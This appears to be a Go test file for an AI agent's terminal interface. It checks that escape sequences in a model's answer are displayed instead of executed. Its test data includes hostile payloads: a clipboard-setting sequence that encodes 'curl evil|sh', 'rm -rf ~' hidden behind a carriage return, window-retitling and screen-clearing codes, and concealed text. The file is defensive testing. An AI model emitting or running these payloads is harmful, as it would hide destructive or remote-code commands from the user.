package main

import (
	"strings"
	"testing"

	"github.com/reasonix/reasonix/providers/scripted"
)

// A hostile answer, and a command shown for a tool call, reach a terminal
// as text: the escape sequences in them neither retitle the window, clear
// the screen nor set the clipboard, and a carriage return cannot overwrite
// what was printed before it.
func TestTermEscapesFromTheModelAreShownNotObeyed(t *testing.T) {
	t.Parallel()
	e := newE2E(t,
		scripted.Turn{ToolCalls: []scripted.Call{bashCall("echo ok #\x1b[8m hidden \x1b[0m")}},
		scripted.Turn{Text: "first line\n\x1b]2;PWNED-TITLE\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07rm -rf ~\rlooks-harmless\n\x1b[2J\x1b[Hdone"},
	)
	tt := startTerm(t, e, "EXIT CODE", "run", "--yolo", "go")
	screen := tt.screen()
	for _, want := range []string{"first line", "^[]2;PWNED-TITLE^G", "^[]52;c;", "rm -rf ~^Mlooks-harmless", "^[[2J^[[Hdone", "^[[8m hidden"} {
		if !strings.Contains(screen, want) {
			t.Errorf("the screen does not show %q:\n%s", want, screen)
		}
	}
	if title := tt.tmux("display-message", "-p", "-t", "rx", "#{pane_title}"); strings.Contains(title, "PWNED") {
		t.Errorf("the answer retitled the pane: %q", title)
	}
}

// The same answer in the interactive mode.
func TestTUITermEscapesFromTheModelAreShownNotObeyed(t *testing.T) {
	t.Parallel()
	e := newE2E(t, scripted.Turn{Text: "first line\n\x1b]2;PWNED-TITLE\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07rm -rf ~\rlooks-harmless\n\x1b[2J\x1b[Hdone-marker"})
	tt := startTUI(t, e, "chat")
	tt.typeLine("go")
	tt.waitFor("done-marker")
	screen := tt.screen()
	if !strings.Contains(screen, "first line") {
		t.Errorf("the answer's first line is gone (the screen was cleared?):\n%s", screen)
	}
	if title := tt.tmux("display-message", "-p", "-t", "rx", "#{pane_title}"); strings.Contains(title, "PWNED") {
		t.Errorf("the answer retitled the pane: %q", title)
	}
}
